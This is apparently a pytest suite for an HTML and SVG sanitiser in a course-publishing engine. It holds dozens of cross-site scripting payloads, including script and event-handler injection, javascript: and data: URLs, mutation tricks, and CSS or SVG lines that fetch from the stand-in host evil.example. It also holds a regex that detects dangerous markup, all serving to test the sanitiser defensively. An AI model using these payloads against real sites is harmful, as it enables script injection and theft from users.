"""HTML from outside: what an attacker tries, and what an author may do."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pictures_whole import GIF
from seodang.course.addresses import foreign_scheme
from seodang.pictures.svg import UnsafeSvgError, read_svg
from seodang.rendering.sanitised import Raw, joined, sanitised
from showing import Show

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></math>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example/'><input name=q><button formaction='javascript:alert(1)'>x</button></form>",
    "<div style='background:url(https://evil.example/)'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='https://evil.example/'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src='https://evil.example/v.mp4' onloadstart=alert(1)></video>",
    "<p id='__config' name='x' class='sd-choice' data-md-component='x'>x</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
]
HARMLESS = (
    "a abbr b br caption code details div em img p span strong sub summary sup table tbody td th"
    " tr u".split()
)
DANGEROUS = re.compile(
    rf"<(?!/?(?:{'|'.join(HARMLESS)})\b)[a-z]"
    r"|<[^>]*\s(?:on\w+|style|class|id|data-[\w-]+|srcdoc|action|formaction)\s*="
    r"|<[^>]*(?:javascript:|data:|evil\.example)",
    re.IGNORECASE,
)


def _keep(_: str, name: str, value: str) -> str | None:
    return None if name == "href" and foreign_scheme(value) else value


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_in_an_output_leave_nothing_dangerous(show: Show, attack: str) -> None:
    cell = "```{code-cell} ipython3\nx\n```\n"
    output = {"output_type": "display_data", "data": {"text/html": attack}, "metadata": {}}
    inside = show(cell, {1: [output]}).html.partition('<div class="sd-output">')[2]
    inside = inside.removeprefix('\n<div class="sd-table">')
    assert DANGEROUS.search(inside) is None, inside


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "frame", ["{}", "가 {} 나", "- {}\n", "| {} |\n|---|\n", "> {}\n\n<p title='"]
)
def test_attacks_in_prose_leave_nothing_dangerous(show: Show, attack: str, frame: str) -> None:
    html = show(frame.format(attack.replace("\n", " "))).html
    trusted = html.replace('<div class="sd-table">', "").replace(' scope="col"', "")
    trusted = re.sub(r"</?(?:ul|li|blockquote|thead)>", "", trusted)
    assert DANGEROUS.search(trusted) is None, html


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&#58;alert(1))",
        "[x](data:text/html;base64,PHN2Zz4=)",
        "[x][y]\n\n[y]: vbscript:alert(1)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        '[x](https://example.org/" onclick="alert(1))',
        "{term}`x <javascript:alert(1)>`",
        '{source}`"><img src=x onerror=alert(1)>`',
        '## "><img src=x onerror=alert(1)>',
        '```"><script>alert(1)</script>\n```',
        '```{prompt} "><script>alert(1)</script>\n["><script>alert(1)</script>]\n```',
        ':::{exercise} "><script>alert(1)</script>\n:::',
        '$$\nx\n$$ ("><script>alert(1)</script>)',
    ],
)
def test_attacks_in_markdown_leave_nothing_dangerous(show: Show, text: str) -> None:
    html = show(text).html
    assert "<script" not in html
    assert not re.search(r'(?:href|src)="(?:javascript|vbscript|data)', html, re.IGNORECASE)
    assert not re.search(r"<[^>]*\son\w+=", html), html


def test_a_slot_cannot_be_smuggled_into_an_attribute(show: Show) -> None:
    html = show('<div title="\n\n![" onmouseover=alert(1) x="](x.png)\n\n">\n').html
    assert "<div" not in html or "title=" not in html
    assert 'onmouseover=alert(1) x="' not in html


def test_slots_in_raw_html_are_dropped() -> None:
    assert joined([Raw("\ue0f01\ue0f1<b>"), "<i>1</i>"], _keep) == "1<b><i>1</i></b>"


@given(
    st.lists(
        st.text(alphabet="<>/\"'=ab \n!-\ue0f0\ue0f10123", max_size=30), min_size=1, max_size=6
    )
)
def test_whatever_raw_html_surrounds_the_engines_own_stays_whole(pieces: list[str]) -> None:
    own = '<p class="sd-own">"가"</p>'
    parts = [part for piece in pieces for part in (Raw(piece), own)]
    html = joined(parts, _keep)
    # Raw HTML may swallow the engine's own (an open comment does); it never splits it.
    assert html.count('class="sd-own"') == html.count(own)


def test_harmless_html_stays(show: Show) -> None:
    html = show("<details>\n<summary>열기 <kbd>Ctrl</kbd></summary>\n\n**안**\n\n</details>\n").html
    assert html == (
        "<details>\n<summary>열기 <kbd>Ctrl</kbd></summary>\n<p><strong>안</strong></p>\n</details>"
    )


def test_an_element_left_open_ends_with_its_paragraph(show: Show) -> None:
    html = show("- <b>가\n- 나 *다</b> 라*\n\n끝\n").html
    assert "<li><b>가</b></li>" in html
    assert "나 <em>다 라</em>" in html


def test_an_author_may_name_a_place_but_no_place_of_the_engines(show: Show) -> None:
    html = show(
        '<a id="여기"></a> <a id="여기"></a> <a id="제목"></a> <a id="exercise-a"></a>'
        ' <a id="__search"></a> <a id="fn:1"></a> <b id="sd-x">가</b>\n\n## 제목\n'
    ).html
    assert html.partition("<h2")[0].count(" id=") == 1
    assert '<a id="여기" rel="noopener"></a>' in html


def test_links_and_pictures_in_raw_html_are_resolved(show: Show) -> None:
    shown = show(
        '<a href="../b/notebook.md">나</a> <a href="https://example.org/">밖</a> '
        '<img src="images/x.gif" alt="그림" width="5">',
        files={"lessons/a/images/x.gif": GIF},
    )
    assert '<a href="b.html" rel="noopener">나</a>' in shown.html
    assert '<img src="a/images/x.gif" alt="그림" width="5">' in shown.html
    assert shown.asset("a/images/x.gif") == GIF.encode()


def test_a_picture_from_another_site_is_a_problem(show: Show) -> None:
    shown = show(
        '가\n\n<img src="https://example.org/x.png" alt="그림">\n\n![그림](https://example.org/y.png)'
        " ![그림](../b/z.png)"
    )
    assert [problem.rule for problem in shown.problems] == ["picture-in-course"] * 3
    assert "example.org" not in shown.html


def test_relative_output_of_nh3_is_stable() -> None:
    assert (
        sanitised('<a title="b" href="x">y</a>', _keep)
        == '<a title="b" href="x" rel="noopener">y</a>'
    )


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<g onload='alert(1)'/>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject>",
        "<a xlink:href='javascript:alert(1)'><text>x</text></a>",
        "<image href='https://evil.example/x.png'/>",
        "<image xlink:href='data:image/svg+xml;base64,PHN2Zz4='/>",
        "<use href='https://evil.example/x.svg#a'/>",
        "<rect fill='url(https://evil.example/#a)'/>",
        "<rect style='fill: url(https://evil.example/); background: red'/>",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<style>rect{fill:\\75rl(//evil.example)}</style>",
        "<animate attributeName='href' to='javascript:alert(1)'/><set attributeName='onload' to='x'/>",
        "<handler xmlns='http://www.w3.org/2001/xml-events'>alert(1)</handler>",
        "<g mask='image-set(\"https://evil.example/x.png\" 1x)'><rect/></g>",
        "<g mask='-webkit-image-set(\"https://evil.example/x.png\" 1x)'><rect/></g>",
        "<g mask='IMAGE-SET (\"//evil.example/x.png\" 1x)'><rect/></g>",
        "<g mask='src(\"https://evil.example/x.png\")'><rect/></g>",
        '<g mask=\'""image-set("https://evil.example/x.png" 1x)""\'><rect/></g>',
        "<g mask='url(#a) url(https://evil.example/x.png)'><rect/></g>",
        '<g mask=\'url("#a", "https://evil.example/x.png")\'><rect/></g>',
        "<g mask='im\\61ge-set(\"https://evil.example/x.png\" 1x)'><rect/></g>",
        "<g style='mask:image-set(\"https://evil.example/x.png\" 1x)'><rect/></g>",
        "<g style='mask/**/:/**/url(https://evil.example/x.png)'><rect/></g>",
        "<g style='fill:red;mask:ur/**/l(https://evil.example/x.png)'><rect/></g>",
        "<style>rect{mask:image-set('https://evil.example/x.png' 1x)}</style>",
        "<style>rect{mask:cross-fade(url(#a), 'https://evil.example/x.png')}</style>",
        "<style>@media all{rect{mask:image-set('https://evil.example/x.png' 1x)}}</style>",
        "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>@namespace svg url(https://evil.example/);</style>",
        "<style>rect{mask:url(https://evil.example/x.png}</style>",
        "<style>rect{--x:image-set('https://evil.example/' 1x);mask:var(--x)}</style>",
        "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
        "<feImage href='https://evil.example/x.png'/><filter><feImage href='//evil.example/'/></filter>",
        "<pattern href='https://evil.example/x.svg#p'/><textPath href='//evil.example/x.svg#p'>x</textPath>",
        "<rect cursor='url(https://evil.example/x.cur), auto' filter='url(//evil.example/x.svg#f)'/>",
    ],
)
def test_attacks_in_a_drawing_leave_nothing_dangerous(attack: str) -> None:
    svg = read_svg(SVG.format(attack).encode())
    for written in (svg.as_file().decode(), svg.as_element("p-", "그림")):
        assert not re.search(r"alert|evil|script|onload|foreign|<a |import|75rl", written), written


@pytest.mark.parametrize(
    "text",
    [
        "",
        "not xml",
        "<html/>",
        "<svg",
        '<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
        "<svg>&nbsp;</svg>",
        SVG.format("<g>" * 300 + "</g>" * 300),
        SVG.format("<g>" * 3000 + "</g>" * 3000),
    ],
)
def test_what_is_no_drawing_is_refused(text: str) -> None:
    with pytest.raises(UnsafeSvgError):
        read_svg(text.encode())


def test_styles_of_a_drawing_become_attributes() -> None:
    svg = read_svg(
        SVG.format(
            "<defs><style>*{stroke-linejoin: round; stroke-linecap: butt}</style></defs>"
            "<path id='p' style='fill: #fff; stroke: url(\"#g\"); -inkscape-x: y'/><use xlink:href='#p'/>"
        ).encode()
    )
    assert svg.as_element("k-", "") == (
        '<svg aria-hidden="true" stroke-linejoin="round" stroke-linecap="butt"><defs></defs>'
        '<path id="k-p" fill="#fff" stroke="url(#k-g)"></path><use href="#k-p"></use></svg>'
    )


@pytest.mark.parametrize(
    "text", ['<link rel=x href="a.png">', "<source src=a.png>", "<b href=x>y</b>"]
)
def test_nobody_is_asked_about_what_is_left_out(text: str) -> None:
    asked: list[str] = []

    def decide(tag: str, name: str, value: str) -> str:
        asked.append(tag)
        return value

    assert "a.png" not in sanitised(text, decide)
    assert asked == []


@pytest.mark.parametrize(
    ("text", "page"),
    [
        ('<a name="top"></a>', '<a id="top"'),
        ('<a name="top" id="top" href="#x">y</a>', '<a id="top"'),
        ('<a title=" name=" name="top">y</a>', 'id="top"'),
        ('<p name="top">y</p>', "<p>y</p>"),
    ],
)
def test_the_name_of_a_link_is_an_id(text: str, page: str) -> None:
    made = sanitised(text, _keep)
    assert page in made
    assert made.count("top") <= 1
